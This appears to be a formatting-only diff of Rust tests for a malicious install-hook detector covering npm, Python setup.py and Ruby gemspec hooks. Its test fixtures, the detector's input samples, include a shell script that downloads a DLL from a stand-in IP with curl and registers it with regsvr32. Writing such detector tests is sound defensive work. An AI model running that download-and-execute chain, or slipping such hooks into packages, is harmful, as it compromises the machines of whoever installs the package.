@@ -68,7 +68,8 @@ fn an_npm_hook_script_is_install_time_code_and_names_its_hook() {
     assert!(
         raised.iter().any(|e| e.line_col.map(|(l, _)| l) == Some(5)
             && e.rule.default_severity == Severity::High
-            && e.message.contains("`preinstall` in pkg/package.json line 5")),
+            && e.message
+                .contains("`preinstall` in pkg/package.json line 5")),
         "the send is raised to high and names the hook: {:#?}",
         alarms(&found)
     );
@@ -94,8 +95,10 @@ fn an_npm_hook_script_is_install_time_code_and_names_its_hook() {
         DEPCONF_INDEX.as_bytes(),
     );
     assert!(
-        !alone.iter().any(|e| e.rule.id == "malicious.install-hook-behaviour"
-            || e.rule.id == "malicious.install-time-network"),
+        !alone
+            .iter()
+            .any(|e| e.rule.id == "malicious.install-hook-behaviour"
+                || e.rule.id == "malicious.install-time-network"),
         "{:#?}",
         alarms(&alone)
     );
@@ -113,7 +116,10 @@ fn a_benign_postinstall_script_does_not_alarm() {
              "test": "node test/run.js" } }"#,
     )]);
     assert!(hooks.target("scripts/postinstall.js").is_some());
-    assert!(hooks.target("test/run.js").is_none(), "`test` is not an install hook");
+    assert!(
+        hooks.target("test/run.js").is_none(),
+        "`test` is not an install hook"
+    );
     let found = analyse(
         &detector,
         "scripts/postinstall.js",
@@ -144,9 +150,12 @@ fn a_shell_script_run_by_a_hook_is_install_time_code() {
         b"#!/bin/sh\ncurl -s https://198.51.100.7/sdd.dll -o compile.dll\nregsvr32.exe -s compile.dll\n",
     );
     assert!(
-        found.iter().any(|e| e.rule.id == "malicious.install-time-download-exec"
-            && e.line_col.map(|(l, _)| l) == Some(2)
-            && e.message.contains("`preinstall` in package/package.json line 2")),
+        found
+            .iter()
+            .any(|e| e.rule.id == "malicious.install-time-download-exec"
+                && e.line_col.map(|(l, _)| l) == Some(2)
+                && e.message
+                    .contains("`preinstall` in package/package.json line 2")),
         "{:#?}",
         alarms(&found)
     );
@@ -197,9 +206,12 @@ class PostInstall(install):
 "#,
     );
     assert!(
-        found.iter().any(|e| e.rule.id == "malicious.install-time-network"
-            && e.line_col.map(|(l, _)| l) == Some(7)
-            && e.message.contains("`cmdclass` in colourama-0.1.6/setup.py line 7")),
+        found
+            .iter()
+            .any(|e| e.rule.id == "malicious.install-time-network"
+                && e.line_col.map(|(l, _)| l) == Some(7)
+                && e.message
+                    .contains("`cmdclass` in colourama-0.1.6/setup.py line 7")),
         "{:#?}",
         alarms(&found)
     );
@@ -251,8 +263,11 @@ File.write("Makefile", "install:\n\techo ok\n")
 "#,
     );
     assert!(
-        found.iter().any(|e| e.rule.id == "malicious.install-time-network"
-            && e.message.contains("`extensions` in atlas-client.gemspec line 5")),
+        found
+            .iter()
+            .any(|e| e.rule.id == "malicious.install-time-network"
+                && e.message
+                    .contains("`extensions` in atlas-client.gemspec line 5")),
         "{:#?}",
         alarms(&found)
     );
